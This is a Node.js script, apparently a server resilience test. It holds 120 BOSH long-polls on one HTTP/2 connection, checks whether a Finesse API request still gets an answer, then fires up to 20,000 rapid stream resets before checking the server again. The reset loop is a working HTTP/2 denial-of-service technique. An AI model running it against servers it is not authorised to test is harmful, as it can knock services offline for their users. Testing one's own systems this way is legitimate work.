// Holds many BOSH requests on one HTTP/2 connection and asks something else meanwhile; then resets streams as fast as
// it can. Prints what it saw as one JSON object. Argument: origin of the server.
"use strict";
const http2 = require("node:http2");
const HELD = 120;

const connect = () => http2.connect(process.argv[2], { rejectUnauthorized: false });

function request(session, headers, body) {
    return new Promise((resolve, reject) => {
        const stream = session.request(headers, { endStream: body === undefined });
        let status = 0;
        let text = "";
        stream.setEncoding("utf8");
        stream.on("response", (head) => { status = head[":status"]; });
        stream.on("data", (part) => { text += part; });
        stream.on("end", () => resolve({ status, text }));
        stream.on("error", reject);
        if (body !== undefined) stream.end(body);
    });
}

const bosh = (session, body) => request(session, { ":method": "POST", ":path": "/http-bind/" }, body);
const ns = "xmlns='http://jabber.org/protocol/httpbind'";

async function hold(session) {
    const create = `<body rid='1' to='localhost' wait='30' hold='1' ver='1.11' ${ns}/>`;
    const made = await Promise.all(Array.from({ length: HELD }, () => bosh(session, create)));
    const sids = made.map(({ text }) => / sid="([^"]*)"/.exec(text)[1]);
    let answered = 0;
    const held = sids.map((sid) =>
        bosh(session, `<body rid='2' sid='${sid}' ${ns}/>`).then((answer) => { answered += 1; return answer; }));
    const other = await request(session, { ":path": "/finesse/api/SystemInfo" });
    const before = answered;
    // Each session is ended by a second request, which releases the first.
    await Promise.all(sids.map((sid) => bosh(session, `<body rid='3' type='terminate' sid='${sid}' ${ns}/>`)));
    const statuses = new Set((await Promise.all(held)).map(({ status }) => status));
    return { other: other.status, before, statuses: [...statuses] };
}

function flood(session) {
    return new Promise((resolve) => {
        session.on("error", () => {});
        session.on("close", resolve);
        for (let n = 0; n < 20000 && !session.destroyed; n += 1) {
            const stream = session.request({ ":path": "/" });
            stream.on("error", () => {});
            stream.close(http2.constants.NGHTTP2_CANCEL);
        }
        session.close();
    });
}

(async () => {
    const session = connect();
    await new Promise((resolve) => session.once("remoteSettings", resolve));
    const streams = session.remoteSettings.maxConcurrentStreams;
    const seen = await hold(session);
    session.close();
    await flood(connect());
    const after = connect();
    const { status } = await request(after, { ":path": "/finesse/api/SystemInfo" });
    after.close();
    console.log(JSON.stringify({ streams, ...seen, afterFlood: status }));
})().catch((error) => { console.error(error); process.exit(1); });
